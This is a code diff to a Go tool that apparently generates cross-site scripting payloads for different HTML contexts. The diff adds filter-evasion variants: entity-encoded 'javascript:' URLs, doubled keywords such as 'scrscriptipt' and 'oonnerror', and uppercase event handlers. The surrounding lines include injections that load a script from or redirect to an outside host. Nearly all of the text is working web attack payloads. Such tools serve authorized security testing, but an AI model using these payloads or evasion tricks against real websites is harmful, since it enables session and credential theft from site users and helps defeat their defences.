@@ -321,7 +321,8 @@ func (c context) payloads(word string) []string {
 		case foreign[c.element] == c.name:
 			return append([]string{"javascript:" + call + "//", other}, leave...)
 		}
-		return append([]string{"javascript:" + call + "//", "JaVaScRiPt:" + call + "//", "java\tscript:" + call + "//", "javascript://%0a" + call + "//"}, leave...)
+		return append([]string{"javascript:" + call + "//", "JaVaScRiPt:" + call + "//", "java\tscript:" + call + "//", "javascript://%0a" + call + "//",
+			"javasc&#114;ipt:" + call + "//http://", "javascrscriptipt:" + call + "//"}, leave...)
 	case inAttribute:
 		if c.element == "iframe" && c.name == "srcdoc" {
 			c.name = ""
@@ -331,7 +332,8 @@ func (c context) payloads(word string) []string {
 			return []string{"x onfocus=" + call + " autofocus tabindex=1 ", "x><svg onload=" + call + ">", "x\fonfocus=" + call + "\fautofocus\ftabindex=1\f"}
 		}
 		return []string{q + "><svg onload=" + call + ">", q + " onfocus=" + call + " autofocus tabindex=1 x=" + q, q + "><script>" + call + "</script>", q + "/onfocus=" + call + "/autofocus/x=" + q,
-			q + "><img src=x onerror=" + call + ">"}
+			q + "><img src=x onerror=" + call + ">", q + "><a href=javascript:" + call + ">x</a>", q + " ONFOCUS=" + call + " AUTOFOCUS TABINDEX=1 X=" + q,
+			q + " oonnfocus=" + call + " autofocus tabindex=1 x=" + q, q + "><scrscriptipt>" + call + "</scrscriptipt>"}
 	case inTag:
 		return []string{"x onfocus=" + call + " autofocus tabindex=1 ", "><svg onload=" + call + ">"}
 	case inScript:
@@ -378,6 +380,7 @@ func anyTags(word string) []string {
 		"<form action=javascript:" + call + "><input type=submit></form>", "<x onfocus=" + call + " autofocus tabindex=1>x</x>",
 		`<iframe srcdoc="&lt;svg onload=` + call + `&gt;"></iframe>`, "<svg><animate onbegin=" + call + " attributeName=x dur=1s></svg>",
 		"<b onclick=" + call + ">x</b>", "<img src=x onerror=" + word + "`1`>", "<img src=x onerror=" + word + "&lpar;1&rpar;>",
+		"<scrscriptipt>" + call + "</scrscriptipt>", "<img src=x oonnerror=" + call + ">", "<IMG SRC=x ONERROR=" + call + ">",
 		"<script src=//" + word + ".example/></script>", "<style>x{" + word + ":1}</style>", "<div style=" + word + ":1>x</div>", "<a style=" + word + ":1>x</a>",
 		"<meta http-equiv=refresh content=0;url=//" + word + ".example/>",
 	}
